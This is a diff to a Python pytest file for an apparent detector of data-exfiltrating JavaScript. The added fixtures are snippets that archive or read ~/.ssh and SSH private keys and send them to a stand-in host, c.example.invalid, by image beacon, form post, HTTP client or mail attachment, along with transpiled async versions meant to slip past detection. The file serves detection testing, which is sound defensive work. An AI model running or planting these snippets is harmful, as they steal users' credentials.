@@ -70,7 +70,33 @@ SENT = {
     f"'/.ssh'); {SEND}z.toBuffer()}})",
     "settings by a name": f"{SEND}JSON.stringify(require('rc')('npm'))}})",
     "a report": f"{SEND}JSON.stringify(process.report.getReport())}})",
+    "an image of a page": "new Image().src = 'https://c.example.invalid/?' + " + ALL,
+    "an archive of a command": "require('child_process').execSync('tar czf /tmp/x.tgz ~/.ssh');"
+    f"{SEND}require('fs').readFileSync('/tmp/x.tgz')}})",
+    "a form": "const f = new (require('form-data'))(); f.append('f', require('fs')"
+    f".createReadStream({KEY})); f.submit('https://c.example.invalid/')",
+    "a library that is told everything": "require('a').post('https://c.example.invalid/', "
+    f"{{payload: {ALL}}})",
+    "files that were looked for": f"require('a').c({{cwd: require('os').homedir()}}, ['.ssh']).pipe({OUT})",
+    "a mail": "require('nodemailer').createTransport({service: 'a'}).sendMail({attachments: "
+    f"[{{path: {KEY}}}]}})",
     "a module of the runtime": f"{SEND}JSON.stringify(process.getBuiltinModule('process').env)}})",
+}
+HELPED = "function go() { return helper(function () { var d; return "
+COMPILED = {
+    "tslib": f"const t = require('tslib'); {HELPED}t.__generator(this, function (_a) {{ switch (_a.label) {{"
+    f"case 0: return [4, require('fs').promises.readFile({KEY})];"
+    f"case 1: d = _a.sent(); return [4, {SEND}d}})]; case 2: _a.sent(); return [2]; }} }}); }}); }} go();",
+    "its own helper": "var __generator = (this && this.__generator) || function (t, body) { return body; };"
+    f"{HELPED}__generator(this, function (_a) {{ switch (_a.label) {{"
+    f"case 0: return [4, require('fs').promises.readFile({KEY})];"
+    f"case 1: d = _a.sent(); return [4, {SEND}d}})]; case 2: _a.sent(); return [2]; }} }}); }}); }} go();",
+    "a runtime": f"{HELPED}regeneratorRuntime.wrap(function (_c) {{ while (1) switch (_c.prev = _c.next) {{"
+    f"case 0: _c.next = 2; return require('fs').promises.readFile({KEY});"
+    f"case 2: d = _c.sent; _c.next = 5; return {SEND}d}}); case 5: return _c.stop(); }} }}); }}); }} go();",
+    "a runtime in short": f"function _regenerator() {{}} {HELPED}_regenerator().w(function (_c) {{"
+    f"while (1) switch (_c.n) {{ case 0: _c.n = 1; return require('fs').promises.readFile({KEY});"
+    f"case 1: d = _c.v; return _c.a(2, {SEND}d}})); }} }}); }}); }} go();",
 }
 KEPT = {
     "a pipe": f"require('fs').createReadStream(__dirname + '/a.txt').pipe({OUT})",
@@ -97,6 +123,13 @@ def sent(text: str) -> bool:
 def test_it_arrives(way: str) -> None:
     assert sent(SENT[way])
     assert sent(f"module.exports = function api() {{ {SENT[way]} }}")
+
+
+@pytest.mark.parametrize("way", COMPILED)
+def test_what_a_compiler_made_of_it(way: str) -> None:
+    helper = "function helper(f) { return f(); }\n"
+    assert sent(helper + COMPILED[way])
+    assert not sent(helper + COMPILED[way].replace("/.ssh/id_rsa", "/a.txt"))
 
 
 @pytest.mark.parametrize("way", KEPT)
